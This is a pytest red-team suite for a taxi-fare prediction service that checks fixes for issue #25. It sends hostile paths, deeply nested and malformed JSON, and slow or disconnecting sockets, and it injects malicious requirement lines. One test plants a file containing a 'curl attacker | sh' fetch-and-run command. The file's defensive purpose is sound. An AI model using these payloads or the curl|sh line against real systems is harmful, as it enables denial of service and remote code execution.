"""Red team: every attack of issue #25, run for real and asserted fixed.

The fare service attacks run against ``taxi-platform serve`` (``bentoml serve`` of a built Bento, API keys on, one
worker) on loopback, as an anonymous client would: random and long paths, pathological JSON, disconnects,
slow connections. The launch-surface attacks run against the deployment's own configuration (the Helm values,
the manifests) and against Dagster launching a run with an overriding config; the model-requirements attack
builds a Bento from a model that pins what it should not. ``docs/deploy.md``'s threat model lists each attack
with its test here.
"""

from __future__ import annotations

import json
import os
import random
import re
import socket
import string
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from http.client import HTTPConnection
from pathlib import Path

import pytest
import requests
from hypothesis import given, settings
from hypothesis import strategies as st

from taxi_platform.devtools.loopback import free_port
from taxi_platform.lib import bento_build
from taxi_platform.lib.http_edge import BODY_TIMEOUT, HEADER_TIMEOUT, KEEP_ALIVE_TIMEOUT
from taxi_platform.lib.quotes import EXAMPLE_QUOTE
from taxi_platform_tests.support.sample_champion import ensure_sample_champion
from taxi_platform_tests.test_service import _stop, _wait_ready, start_server

pytestmark = pytest.mark.slow

HOSTILE_PATHS = 10_000
KEY = "red-team-key-" + os.urandom(8).hex()


class Server:
    def __init__(self, url: str, proc, log: Path, data_dir: Path) -> None:
        self.url = url
        self.proc = proc
        self.log = log
        self.data_dir = data_dir
        self.host, port = url.removeprefix("http://").split(":")
        self.port = int(port)

    def log_since(self, offset: int) -> str:
        return self.log.read_bytes()[offset:].decode("utf-8", "replace")

    def log_size(self) -> int:
        return self.log.stat().st_size

    def metrics(self) -> str:
        resp = requests.get(f"{self.url}/metrics", timeout=30)
        assert resp.status_code == 200
        return resp.text

    def multiproc_dir(self) -> Path:
        found = [p for p in self.data_dir.rglob("prometheus_multiproc_dir") if p.is_dir()]
        assert len(found) == 1, found
        return found[0]


@pytest.fixture(scope="module")
def server(tmp_path_factory) -> Server:
    import hashlib

    champion = ensure_sample_champion(tmp_path_factory.getbasetemp() / "sample-champion")
    work = tmp_path_factory.mktemp("red-team")
    data_dir = work / "data"
    home = data_dir / "bentoml"
    info = bento_build.champion_info(champion.tracking_uri)
    bento_build.import_champion(home, info, champion.tracking_uri)
    bento_build.build_bento(home, info)
    keys_file = work / "api-keys"
    keys_file.write_text(f"red-team:{hashlib.sha256(KEY.encode()).hexdigest()}\n")
    port = free_port()
    log = work / "server.log"
    env = {
        **os.environ,
        "TAXI_DATA_DIR": str(data_dir),
        "MLFLOW_TRACKING_URI": champion.tracking_uri,
        "TAXI_PREDICTION_LOG": "off",
        "TAXI_API_KEYS_FILE": str(keys_file),
        "TAXI_RATE_LIMIT": "0",  # no rate limit: the attacks below send thousands of requests
    }
    proc, url = start_server(env, port, work, log)
    try:
        _wait_ready(url, proc, log)
        yield Server(url, proc, log, data_dir)
    finally:
        _stop(proc)


def _auth() -> dict[str, str]:
    return {"Content-Type": "application/json", "Authorization": f"Bearer {KEY}"}


def _series(metrics: str) -> set[str]:
    """The series of a Prometheus text exposition: every sample's name and labels."""
    return {line.rsplit(" ", 1)[0] for line in metrics.splitlines() if line and not line.startswith("#")}


def _dir_bytes(path: Path) -> int:
    return sum(p.stat().st_size for p in path.iterdir() if p.is_file())


def _hostile_path(rng: random.Random, i: int) -> str:
    alphabet = string.ascii_letters + string.digits + "-._~"
    length = rng.choice((8, 40, 300)) if i % 2 else rng.randint(3000, 6000)
    return "/" + "".join(rng.choices(alphabet, k=length))


def _send_paths(server: Server, paths: list[str]) -> list[int]:
    conn = HTTPConnection(server.host, server.port, timeout=30)
    statuses = []
    for path in paths:
        method = "GET" if len(statuses) % 3 else "POST"
        conn.request(
            method,
            path,
            body=b"{}" if method == "POST" else None,
            headers={"Content-Type": "application/json"},
        )
        resp = conn.getresponse()
        resp.read()
        statuses.append(resp.status)
    conn.close()
    return statuses


# --- 1. bounded metrics -----------------------------------------------------------------------------------------


def test_10000_hostile_paths_leave_the_metric_series_and_their_files_the_same_size(server):
    """Issue #25: 30 random paths added 600 series; 500 long ones grew the multiprocess directory from 288 KB to
    48 MB (the pod's emptyDir is 64 MiB: eviction) and /metrics to 50 MB."""
    assert (
        requests.post(f"{server.url}/predict", json=EXAMPLE_QUOTE, headers=_auth(), timeout=30).status_code
        == 200
    )
    requests.get(f"{server.url}/livez", timeout=10)
    before = server.metrics()
    dir_before = _dir_bytes(server.multiproc_dir())
    rng = random.Random(25)
    paths = [_hostile_path(rng, i) for i in range(HOSTILE_PATHS)]
    with ThreadPoolExecutor(4) as pool:
        statuses = [
            s for chunk in pool.map(lambda k: _send_paths(server, paths[k::4]), range(4)) for s in chunk
        ]
    assert set(statuses) == {404}, set(statuses)
    after = server.metrics()
    assert _series(after) == _series(before), sorted(_series(after) - _series(before))[:5]
    # Same series, same values but for counters of the scrape itself: the exposition's size moves by a few bytes.
    assert abs(len(after) - len(before)) < 200, (len(before), len(after))
    assert _dir_bytes(server.multiproc_dir()) == dir_before
    # The 404s are counted, under one series.
    pattern = rf"^taxi_fare_unknown_route_requests_total(\{{[^}}]*\}})? {HOSTILE_PATHS}(\.0)?$"
    assert re.search(pattern, after, re.M), [line for line in after.splitlines() if "unknown_route" in line]
    # The real routes still answer.
    assert requests.get(f"{server.url}/docs.json", timeout=10).status_code == 200
    assert requests.get(f"{server.url}/", timeout=10).status_code == 200


# --- 4. clean failure modes -------------------------------------------------------------------------------------


def _deep(n: int) -> bytes:
    return b"[" * n + b"]" * n


PATHOLOGICAL_BODIES = {
    "100,000-deep array": _deep(100_000),
    "100,000-deep object": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "deep array in a batch": b'{"quotes": ' + _deep(50_000) + b"}",
    "deep array as a field": b'{"pickup_zone": ' + _deep(50_000) + b"}",
    "5,000-digit number": b'{"quotes": [' + b"9" * 5000 + b"]}",
    "NaN and Infinity": b'{"quotes": [{"pickup_zone": NaN, "dropoff_zone": Infinity}]}',
    "lone surrogate": b'{"service": "\\ud800"}',
    "not UTF-8": b'{"service": "\xff\xfe"}',
    "truncated": b'{"quotes": [{"pickup_zone": 1',
}


@pytest.mark.parametrize("endpoint", ["/predict", "/predict_batch"])
@pytest.mark.parametrize("name", list(PATHOLOGICAL_BODIES))
def test_pathological_json_is_a_400_without_a_traceback(server, endpoint, name):
    start = server.log_size()
    resp = requests.post(
        f"{server.url}{endpoint}", data=PATHOLOGICAL_BODIES[name], headers=_auth(), timeout=30
    )
    assert resp.status_code == 400, (resp.status_code, resp.text[:300])
    time.sleep(0.3)
    logged = server.log_since(start)
    assert "Traceback" not in logged and "ERROR" not in logged, logged[-2000:]


def test_a_client_that_disconnects_mid_body_is_an_info_line_not_an_error(server):
    start = server.log_size()
    body = json.dumps({"quotes": [EXAMPLE_QUOTE] * 2000}).encode()
    head = (
        f"POST /predict_batch HTTP/1.1\r\nHost: {server.host}\r\nContent-Type: application/json\r\n"
        f"Authorization: Bearer {KEY}\r\nContent-Length: {len(body)}\r\n\r\n"
    ).encode()
    for _ in range(3):
        with socket.create_connection((server.host, server.port), timeout=10) as sock:
            sock.sendall(head + body[: len(body) // 2])
            time.sleep(0.3)
    time.sleep(1.0)
    logged = server.log_since(start)
    assert "Traceback" not in logged and "ERROR" not in logged, logged[-2000:]
    assert "disconnected" in logged, logged[-2000:]
    assert (
        requests.post(f"{server.url}/predict", json=EXAMPLE_QUOTE, headers=_auth(), timeout=30).status_code
        == 200
    )


def _closed_after(
    sock: socket.socket, trickle: bytes = b"", every: float = 0.5, limit: float = 90.0
) -> float:
    """Seconds until the server closes ``sock`` (recv returns b"" or resets), sending ``trickle`` one byte every
    ``every`` seconds meanwhile; ``limit`` if it never does."""
    start = time.monotonic()
    sock.settimeout(every)
    sent = 0
    while time.monotonic() - start < limit:
        try:
            data = sock.recv(65536)
            if not data:
                return time.monotonic() - start
            continue  # a response (e.g. 504): keep waiting for the close
        except TimeoutError:
            pass
        except OSError:
            return time.monotonic() - start
        if sent < len(trickle):
            try:
                sock.sendall(trickle[sent : sent + 1])
            except OSError:
                return time.monotonic() - start
            sent += 1
    return limit


def test_slow_connections_are_closed_at_their_deadlines(server):
    """Header, idle and body deadlines, with raw sockets: a connection that sends nothing, one that trickles its
    request head, one that idles after a response, one that trickles its body. All four run at once."""
    head = f"POST /predict HTTP/1.1\r\nHost: {server.host}\r\nContent-Type: application/json\r\n"
    head += f"Authorization: Bearer {KEY}\r\n"
    body = json.dumps(EXAMPLE_QUOTE).encode()
    results: dict[str, float] = {}

    def silent() -> None:
        with socket.create_connection((server.host, server.port)) as sock:
            results["nothing sent"] = _closed_after(sock)

    def trickled_head() -> None:
        with socket.create_connection((server.host, server.port)) as sock:
            results["trickled head"] = _closed_after(sock, trickle=(head * 20).encode())

    def idle() -> None:
        with socket.create_connection((server.host, server.port)) as sock:
            sock.sendall(f"GET /livez HTTP/1.1\r\nHost: {server.host}\r\n\r\n".encode())
            assert sock.recv(4096).startswith(b"HTTP/1.1 200")
            results["idle after a response"] = _closed_after(sock)

    def trickled_body() -> None:
        with socket.create_connection((server.host, server.port)) as sock:
            sock.sendall(f"{head}Content-Length: {len(body) * 100}\r\n\r\n".encode())
            results["trickled body"] = _closed_after(sock, trickle=body * 100, every=0.5)

    threads = [threading.Thread(target=f) for f in (silent, trickled_head, idle, trickled_body)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    slack = 3.0
    assert HEADER_TIMEOUT - 0.5 <= results["nothing sent"] <= HEADER_TIMEOUT + slack, results
    assert HEADER_TIMEOUT - 0.5 <= results["trickled head"] <= HEADER_TIMEOUT + slack, results
    assert KEEP_ALIVE_TIMEOUT - 0.5 <= results["idle after a response"] <= KEEP_ALIVE_TIMEOUT + slack, results
    assert BODY_TIMEOUT - 0.5 <= results["trickled body"] <= BODY_TIMEOUT + slack, results


# --- 3. lock-only model requirements ----------------------------------------------------------------------------

HOSTILE_REQUIREMENTS = {
    "numpy @ https://example.invalid/numpy-2.4.6-cp311-none-any.whl": "not name==version",
    "numpy==1.26.0": "conflicts with the lock's numpy==",
    "left-pad-evil==1.0.0": "left-pad-evil is not a package of the Bento's lock",
    "--extra-index-url https://example.invalid/simple": "not name==version",
    "-r other.txt": "not name==version",
    "numpy[dev]==2.4.6": "not name==version",
    "numpy==2.4.6; python_version > '3'": "not name==version",
    "numpy>=2": "not name==version",
}


def test_a_model_cannot_change_the_images_dependencies(tmp_path):
    """Issue #25: the model's requirements.txt overrode the lock (``numpy @ https://…`` replaced the pin, unknown
    packages were appended). Now each hostile line fails the real build, named; the model's own locked pins
    build as before."""
    champion = ensure_sample_champion(tmp_path.parent / "sample-champion-reqs")
    home = tmp_path / "bentoml"
    info = bento_build.champion_info(champion.tracking_uri)
    bento_build.import_champion(home, info, champion.tracking_uri)
    stored = bento_build.model_path(home, info.store_tag) / "mlflow_model" / "requirements.txt"
    original = stored.read_text()
    locked = {bento_build.requirement_name(p): p for p in bento_build.locked_requirements()}
    assert all(locked.get(bento_build.requirement_name(line)) == line for line in original.split()), original
    stored.write_text(original.rstrip("\n") + "\n" + "\n".join(HOSTILE_REQUIREMENTS) + "\n")
    with pytest.raises(bento_build.ServingBuildError) as refused:
        bento_build.build_bento(home, info)
    message = str(refused.value)
    for line, reason in HOSTILE_REQUIREMENTS.items():
        assert repr(line) in message, (line, message)
        assert reason in message, (reason, message)
    assert not list((home / "bentos").glob("*/*/bento.yaml")), "a Bento was built from hostile requirements"
    stored.write_text(original)  # the model's own pins are the lock's: it builds
    build = bento_build.build_bento(home, info)
    assert set(bento_build.locked_requirements()) <= set(build.requirements)  # (+ bentoml, added by BentoML)
    assert not any(bento_build.requirement_name(r) == "left-pad-evil" for r in build.requirements)


_NAMES = st.sampled_from(["numpy", "pandas", "scikit-learn", "mlflow", "evilpkg", "NumPy", "scikit_learn"])
_VERSIONS = st.sampled_from(["2.4.6", "1.0", "3.17.2", "0.0.1a1", "99"])


@settings(max_examples=300, deadline=None)
@given(
    name=_NAMES,
    version=_VERSIONS,
    prefix=st.sampled_from(["", " ", "-e ", "--index-url=x "]),
    suffix=st.sampled_from(["", " ", " @ https://x/y.whl", ";sys_platform=='linux'", "[extra]", ".post1"]),
)
def test_only_a_locked_pin_passes(name, version, prefix, suffix):
    """Any requirement line passes only when it is ``name==version`` of a locked package at its locked version."""
    packages = ["numpy==2.4.6", "pandas==2.3.3", "scikit-learn==1.9.1", "mlflow==3.17.2"]
    line = f"{prefix}{name}=={version}{suffix}"
    locked = {bento_build.requirement_name(p): p.split("==")[1] for p in packages}
    exact = prefix in ("", " ") and suffix in ("", " ")
    ok = exact and locked.get(bento_build.normalize(name)) == version
    if ok:
        bento_build.check_model_requirements(packages, ["# comment", "", line])
    else:
        with pytest.raises(bento_build.ServingBuildError, match=re.escape(repr(line.strip()))):
            bento_build.check_model_requirements(packages, [line])


def test_the_build_context_is_never_a_directory_someone_else_made(tmp_path, monkeypatch):
    """Issue #25: from a wheel, the staged build context was ``$TMPDIR/taxi-platform-bento-context-<fingerprint>``,
    reused whenever it held a ``bento/service.py`` — another local user could plant one. Now it is a fresh
    ``mkdtemp`` (mode 0700) per process."""
    import stat
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    monkeypatch.setattr(bento_build, "checkout_root", lambda: None)  # as from an installed wheel
    monkeypatch.setattr(bento_build, "_STAGED_CONTEXT", [], raising=False)
    probe = bento_build.stage_build_context(tmp_path / "probe")
    fingerprint = bento_build.source_fingerprint(probe)
    planted = tmp_path / f"taxi-platform-bento-context-{fingerprint[:12]}"
    (planted / "bento").mkdir(parents=True)
    (planted / "bento" / "service.py").write_text("import os; os.system('curl attacker | sh')\n")
    root = bento_build.repo_root()
    assert root != planted
    assert stat.S_IMODE(root.stat().st_mode) == 0o700
    assert (root / "bento" / "service.py").read_text() == (probe / "bento" / "service.py").read_text()
    assert bento_build.repo_root() == root  # staged once per process
